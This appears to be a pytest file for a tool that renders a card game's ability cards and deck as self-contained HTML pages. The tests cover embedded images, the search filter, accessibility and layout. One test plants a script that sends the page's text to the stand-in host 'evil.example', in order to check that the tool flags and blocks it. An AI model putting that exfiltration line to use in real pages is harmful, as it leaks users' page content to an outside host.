"""The deck as a page of HTML: pictures and words in one file."""

import io
import re
import shutil
from base64 import b64decode
from html.parser import HTMLParser

import pytest
from PIL import Image

from tests.browser import faults_of_access, needs_chromium
from tests.documents.drawn_pictures import photograph, put


class Page(HTMLParser):
    """What a page holds: its tags with their attributes, and its words."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.words = [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, words):
        self.words.append(words)

    def all(self, name):
        return [attributes for tag, attributes in self.tags if tag == name]

    @property
    def text(self):
        return " ".join(" ".join(self.words).split())


@pytest.fixture(scope="module")
def pages(printed, made):
    """The abilities and the deck as pages in both languages; only to be read."""
    found = made(printed, "html", "ability-cards", "command-deck", languages=("en", "es"))
    assert (found.problems, found.refused) == ([], [])
    return {(one.path.stem, one.path.parent.parent.name): one.path.read_text(encoding="utf-8") for one in found.outputs}


def test_it_says_its_language_and_what_it_is(pages):
    for language, title in (("en", "Herons: Ability cards"), ("es", "Garzas: [Ability cards]")):
        page = Page(pages["ability-cards", language])
        assert [one["lang"] for one in page.all("html")] == [language]
        assert title in page.text
    assert "Designs: 3. Copies in all: 3." in Page(pages["ability-cards", "en"]).text
    assert "Designs: 4. Copies in all: 24." in Page(pages["command-deck", "en"]).text


def test_every_card_has_its_words_beside_its_picture(pages):
    text = Page(pages["ability-cards", "es"]).text
    assert "Vadear ×1" in text
    # The figures of the text, as the language writes them.
    assert re.search(r"El agua de hasta 2,5.cm no la estorba", text)
    assert "Garzas · " not in text  # a stamp is for paper
    page = Page(pages["ability-cards", "en"])
    assert [image["alt"] for image in page.all("img")] == ["Wade", "Patience", "Silence", "Back"]


def test_its_pictures_are_in_it_and_nothing_is_fetched(pages):
    for text in pages.values():
        page = Page(text)
        assert not page.all("link")
        assert "http" not in re.sub(r'<meta http-equiv="Content-Security-Policy"', "", text)
        assert "script-src 'sha256-" in text  # no other script runs
        for image in page.all("img"):
            beginning, data = image["src"].split(",")
            assert beginning == "data:image/png;base64"
            with Image.open(io.BytesIO(b64decode(data))) as picture:
                assert picture.size == (int(image["width"]), int(image["height"]))
                # Something light stands on something dark: the picture is not blank.
                darkest, lightest = picture.convert("L").getextrema()
                assert lightest - darkest > 100


def test_a_side_with_a_photograph_is_a_jpeg_with_its_colours(herons, made):
    put(herons.folder, "pond.png", photograph(400, 400))
    herons.write("templates/frogs/kind.yaml", "title: Frogs\neach: ability\nface: 60x60\n")
    herons.write("templates/frogs/face.html.j2", "{% if key == 'wade' %}<img src='art/pond.png'>{% endif %}")
    herons.write("templates/frogs/face.css", "img { display: block; width: 30mm }")
    (one,) = made(herons, "html", "frogs").outputs
    images = [image["src"] for image in Page(one.path.read_text(encoding="utf-8")).all("img")]
    assert [source.partition(";")[0] for source in images] == ["data:image/jpeg", "data:image/png"]
    with Image.open(io.BytesIO(b64decode(images[0].partition(",")[2]))) as picture:
        assert picture.format == "JPEG" and len(picture.crop((0, 0, 100, 100)).getcolors(20_000)) > 500


def test_words_are_marked_up_as_words_and_not_as_looks(pages):
    for text in pages.values():
        details = "".join(re.findall(r"<details>.*?</details>", text, re.S))
        assert "class=" not in details
        assert "<svg" not in details
        assert "<p></p>" not in details


def test_it_can_be_filtered_by_name(pages):
    page = Page(pages["ability-cards", "es"])
    assert [field["type"] for field in page.all("input")] == ["search", "range"]
    assert [card["data-name"] for card in page.all("li") if "data-name" in card][:1] == ["Vadear"]


def test_different_backs_stand_with_their_cards(herons, made, riddles):
    riddles(herons)
    found = made(herons, "html", "riddles")
    page = Page(found.outputs[0].path.read_text())
    assert [image["alt"] for image in page.all("img")] == ["Wade", "Back", "Patience", "Back", "Silence", "Back"]
    assert "Nobody hears it come." in page.text


def test_nothing_is_written_again_that_would_come_out_the_same(herons, made):
    assert made(herons, "html", "ability-cards").outputs[0].fresh
    assert not made(herons, "html", "ability-cards").outputs[0].fresh
    herons.edit("data/editions/herons/abilities.yaml", "name: Wade", "name: To wade")
    assert made(herons, "html", "ability-cards").outputs[0].fresh


@pytest.fixture
def opened(pages, chromium, tmp_path):
    """The page of the abilities in Spanish, in a browser."""
    file = tmp_path / "abilities.html"
    file.write_text(pages["ability-cards", "es"], encoding="utf-8")
    with chromium.page(file.as_uri()) as page:
        yield page


SHOWN = "[...document.querySelectorAll('.deck > li')].filter((one) => one.getClientRects().length).length"


@needs_chromium
@pytest.mark.parametrize("asked, found", [("vadear", 1), ("VADE", 1), ("estórba agua", 1), ("", 3), ("xyz", 0)])
def test_the_filter_forgives_accents_and_says_where_nothing_is_left(opened, asked, found):
    opened.press("/")
    opened.type(asked)
    assert opened(SHOWN) == found
    assert opened("!document.querySelector('#none').hidden") == (found == 0)
    assert opened("document.querySelector('#sum').textContent").startswith(f"[Designs: {found}.")


@needs_chromium
def test_a_card_is_enlarged_turned_over_and_the_next_one_shown(opened):
    opened.click(".open")
    assert opened("document.querySelector('#place').textContent") == "1 / 3"
    assert "2,5" in opened("document.querySelector('#text').textContent")
    front = opened("document.querySelector('#picture img').src")
    opened.click("#turn")
    assert opened("document.querySelector('#picture img').src") != front
    opened.press("ArrowRight")
    assert opened("document.querySelector('#place').textContent") == "2 / 3"
    opened.press("Escape")
    opened.frame()
    assert not opened("document.querySelector('#big').open")
    assert opened.errors == []


@needs_chromium
@pytest.mark.parametrize("dark", [False, True])
def test_everybody_can_use_it(opened, dark):
    if dark:
        opened("document.documentElement.dataset.theme = 'dark'")
    assert faults_of_access(opened) == []
    opened.click(".open")
    assert faults_of_access(opened) == []


@needs_chromium
@pytest.mark.parametrize("width", [320, 390, 768, 1280])
def test_nothing_has_to_be_scrolled_sideways(opened, width):
    opened.resize(width, 800, phone=width < 500)
    opened.frame()
    assert opened("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0


def test_a_script_of_a_project_is_a_finding_on_every_run(herons, made):
    shared = herons.folder / "templates" / "_shared"
    own = shared.resolve()
    shared.unlink()
    shutil.copytree(own, shared)
    (shared / "deck-page.js").write_text("location = 'https://evil.example/' + document.body.innerText")
    for _run in range(2):
        found = made(herons, "html", "ability-cards")
        (problem,) = found.problems
        assert "puts a script of its own" in problem.message and problem.severity == "error"
        (page,) = (one.path.read_text(encoding="utf-8") for one in found.outputs)
        assert "script-src 'none'" in page
    assert "evil" not in (own / "deck-page.js").read_text(encoding="utf-8")
